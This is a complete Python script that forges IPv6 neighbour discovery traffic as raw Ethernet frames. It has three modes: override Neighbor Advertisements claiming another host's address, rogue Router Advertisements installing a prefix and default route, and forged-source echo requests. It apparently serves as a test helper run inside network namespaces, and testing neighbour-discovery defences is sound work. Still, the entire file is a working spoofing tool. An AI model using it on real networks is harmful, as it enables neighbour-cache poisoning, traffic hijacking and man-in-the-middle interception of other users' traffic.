"""Hostile IPv6 neighbour discovery, sent as raw Ethernet frames from the namespace it runs in.

  python3 nd_spoof.py IFACE na TARGET_IP [SRC_IP]   unsolicited NA (override) claiming TARGET_IP
  python3 nd_spoof.py IFACE ra PREFIX               router advertisement: PREFIX/64 and a default route
  python3 nd_spoof.py IFACE echo SRC_IP DST_IP      an echo request from a forged source

Sent from IFACE's own MAC, to all-nodes (ff02::1) for NA/RA, to the solicited-node multicast
MAC for echo; source IP defaults to IFACE's link-local. Exits 0 once sent (nothing is received).
"""

from __future__ import annotations

import ipaddress
import socket
import struct
import sys


def mac_of(ifname: str) -> bytes:
    """From the kernel of this network namespace (SIOCGIFHWADDR): /sys may be another namespace's
    when only the network namespace was entered (nsenter -n)."""
    import fcntl

    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        info = fcntl.ioctl(s.fileno(), 0x8927, struct.pack("256s", ifname.encode()[:15]))
    return info[18:24]


def link_local(mac: bytes) -> str:
    eui = bytes([mac[0] ^ 2]) + mac[1:3] + b"\xff\xfe" + mac[3:]
    return str(ipaddress.IPv6Address(b"\xfe\x80" + b"\0" * 6 + eui))


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def ipv6_frame(src_mac: bytes, dst_mac: bytes, src: str, dst: str, icmp: bytes, hops: int = 255) -> bytes:
    s, d = socket.inet_pton(socket.AF_INET6, src), socket.inet_pton(socket.AF_INET6, dst)
    pseudo = s + d + struct.pack("!I3xB", len(icmp), 58)
    icmp = icmp[:2] + struct.pack("!H", checksum(pseudo + icmp)) + icmp[4:]
    ip6 = struct.pack("!IHBB", 6 << 28, len(icmp), 58, hops) + s + d
    return dst_mac + src_mac + b"\x86\xdd" + ip6 + icmp


def main() -> int:
    ifname, kind = sys.argv[1], sys.argv[2]
    mac = mac_of(ifname)
    all_nodes_mac = b"\x33\x33\x00\x00\x00\x01"
    if kind == "na":
        target = sys.argv[3]
        src = sys.argv[4] if len(sys.argv) > 4 else link_local(mac)
        icmp = struct.pack("!BBHI", 136, 0, 0, 0x20000000) + socket.inet_pton(socket.AF_INET6, target) \
            + bytes([2, 1]) + mac  # override; target link-layer address = ours
        frame = ipv6_frame(mac, all_nodes_mac, src, "ff02::1", icmp)
    elif kind == "ra":
        prefix = ipaddress.IPv6Network(sys.argv[3])
        pi = struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 86400, 14400, 0) + prefix.network_address.packed
        icmp = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0) + pi + bytes([1, 1]) + mac
        frame = ipv6_frame(mac, all_nodes_mac, link_local(mac), "ff02::1", icmp)
    elif kind == "echo":
        src, dst = sys.argv[3], sys.argv[4]
        d = ipaddress.IPv6Address(dst).packed
        dst_mac = b"\x33\x33\xff" + d[-3:]
        icmp = struct.pack("!BBHHH", 128, 0, 0, 0x4242, 1) + b"spoof"
        frame = ipv6_frame(mac, dst_mac, src, dst, icmp, hops=64)
    else:
        raise SystemExit(f"unknown kind {kind}")
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
        s.bind((ifname, 0))
        for _ in range(3):
            s.send(frame)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
